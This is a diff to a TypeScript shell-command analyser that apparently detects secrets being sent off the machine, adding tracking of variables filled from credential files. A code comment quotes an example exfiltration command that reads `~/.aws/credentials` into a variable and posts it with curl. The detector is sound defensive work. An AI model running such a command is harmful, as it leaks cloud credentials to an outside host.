@@ -11,7 +11,7 @@ import { urlHost } from '../../environment.ts';
 import { SECRET_NAME_PART } from '../../credential-text.ts';
 import { CAPTURE_HOST, LOOPBACK_HOST, PUBLISHING_HOST } from '../../public-access.ts';
 
-import { isCredentialFileName, secretIssuer, secretPrinted } from '../secret-sources.ts';
+import { isCredentialFileName, SECRET_COMMAND_MARK, SECRET_VARIABLE_MARK, secretIssuer, secretPrinted, secretVariableExpanded } from '../secret-sources.ts';
 import { isCredentialFile, resolvePath } from '../../paths.ts';
 
 /**
@@ -269,6 +269,17 @@ function substitutedSecret(inv: Invocation, urls: Array<string | null>, words: W
   if (!leavesMachine(inv, urls)) return;
   for (const w of words) {
     if (w.value !== null) continue;
+    // Round 42 (nxa42, the lead's answer 431.4): a variable this input filled with a secret (`T=$(cat ~/.aws/credentials);
+    // curl -d "$T" URL`) sends it as the substitution itself would; a token sent only to its issuer stays the credential used.
+    const held = secretVariableExpanded(w.text, inv.scope.vars);
+    if (held !== undefined) {
+      const [name, ...rest] = (inv.scope.vars.get(`${SECRET_COMMAND_MARK}${held}`) ?? '').trim().split(/\s+/).map((t) => t.replace(/^["']|["']$/g, ''));
+      const issuer = name ? secretIssuer(name, rest) : undefined;
+      if (issuer === undefined || !toIssuerOnly(inv, urls, issuer)) {
+        inv.env.b.verb('network').destroy('secret_sent', `sends ${inv.scope.vars.get(`${SECRET_VARIABLE_MARK}${held}`) ?? 'a secret'}, held in \`$${held}\`, off the machine`, inv.span);
+        return;
+      }
+    }
     for (const m of w.text.matchAll(/\$\(([^()]*)\)|`([^`]*)`/g)) {
       const command = (m[1] ?? m[2] ?? '').trim();
       const redirected = /^<\s*(\S+)$/.exec(command)?.[1];
